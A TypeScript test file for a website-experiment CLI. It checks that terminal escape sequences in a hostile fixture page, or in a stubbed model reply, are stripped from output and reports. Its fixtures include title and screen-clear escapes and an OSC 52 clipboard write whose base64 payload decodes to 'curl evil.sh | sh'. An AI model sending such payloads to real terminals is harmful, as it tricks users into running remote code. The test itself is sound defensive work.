/**
 * Terminal escapes from a hostile page or a hostile model reply (issue 11: "strip control
 * characters from anything a model wrote before it reaches a terminal, a commit or a report").
 * Window titles (OSC 0), screen clears (CSI 2J) and clipboard writes (OSC 52) in page text and
 * in the model's ideas never reach stdout, stderr, report.md, report.html or ideas.json.
 */
import fs from 'node:fs';
import type http from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExperimentIdea } from '../../src/ai/ideas/schema.js';
import { baseEnv, runCli } from '../support/run-cli.js';
import { startOpenAIServer } from '../support/openai-server.js';
import { tmpDir } from '../support/tmp.js';
import { startFixtureServer, type FixtureServer } from './support/fixture-server.js';

const OSC_TITLE = '\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const C1_CSI = '\u009b31m';
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const page = (res: http.ServerResponse): void => {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  res.end(`<!doctype html><html><head><title>Gizmo${OSC_TITLE} Store</title></head><body>
<h2>Deals${CLEAR} today</h2><img src="/e/a.png" width="300" height="200">
<form id="f" action="/e/signup"><input type="email" name="email" placeholder="Email${CLIPBOARD}"><input type="submit" value="Submit${C1_CSI}"></form>
<a class="btn btn-primary" href="/e/buy">Learn more${CLIPBOARD}</a></body></html>`);
};

function expectClean(what: string, text: string): void {
  expect(CONTROL.test(text.replace(/[\n\t]/g, ' ')), `${what}: ${JSON.stringify(text.match(CONTROL))}`).toBe(false);
  expect(text, what).not.toContain('pwned\u0007');
}

let srv: FixtureServer;
beforeAll(async () => {
  srv = await startFixtureServer({ '/e/': (_q, r) => page(r) });
});
afterAll(async () => {
  await srv?.close();
});

describe('terminal escapes', () => {
  it('are stripped from page text before the audit, the terminal and the reports', async () => {
    const dir = tmpDir('sh-ideas-esc-');
    const res = await runCli(['ideas', `${srv.origin}/e/`, '--pages', '1', '--offline', '--no-browser'], { cwd: dir });
    expect(res.code).toBe(0);
    expect(res.stdout).toContain('Say what happens next on “Submit”'); // "Submit" + a C1 CSI: vague once the escape is gone
    expectClean('stdout', res.stdout);
    expectClean('stderr', res.stderr);
    for (const f of ['report.md', 'report.html', 'ideas.json']) expectClean(f, fs.readFileSync(path.join(dir, 'ideas', f), 'utf8'));
    const out = JSON.parse(fs.readFileSync(path.join(dir, 'ideas', 'ideas.json'), 'utf8'));
    expect(out.capture.pages[0].title).toBe('Gizmo Store');
  });

  it('are stripped from what the model writes', async () => {
    const home = `${srv.origin}/e/`;
    const hostile: ExperimentIdea = {
      title: `Rename the button${OSC_TITLE}${CLEAR}`,
      summary: `Copy${CLIPBOARD} matters.`,
      page_url: home,
      evidence: [{ selector: 'a.btn', observation: `says Learn more${C1_CSI}` }],
      hypothesis: 'Because we observed vague copy, we believe clear copy will cause more clicks for visitors; we will know when cta_click moves.',
      control: 'Learn more',
      test: `Buy the gizmo${CLEAR}`,
      primary_metric: { name: 'cta_click', type: 'conversion', direction: 'increase' },
      guardrail_metrics: [],
      id_type: 'stableID',
      ice: { impact: 6, confidence: 6, ease: 9 },
    };
    const site = { summary: `Gizmos${OSC_TITLE}`, purpose: 'sell', audience: 'buyers', primary_conversion: 'buy' };
    const server = await startOpenAIServer([{ json: { site, experiments: [hostile] } }]);
    try {
      const dir = tmpDir('sh-ideas-esc-');
      const res = await runCli(['ideas', home, '--pages', '1', '--no-browser'], { cwd: dir, env: baseEnv({ OPENAI_BASE_URL: server.url, OPENAI_API_KEY: 'sk-test-esc' }) });
      expect(res.code).toBe(0);
      expect(res.stdout).toContain('Rename the button');
      expectClean('stdout', res.stdout);
      for (const f of ['report.md', 'report.html', 'ideas.json']) expectClean(f, fs.readFileSync(path.join(dir, 'ideas', f), 'utf8'));
    } finally {
      await server.close();
    }
  });
});
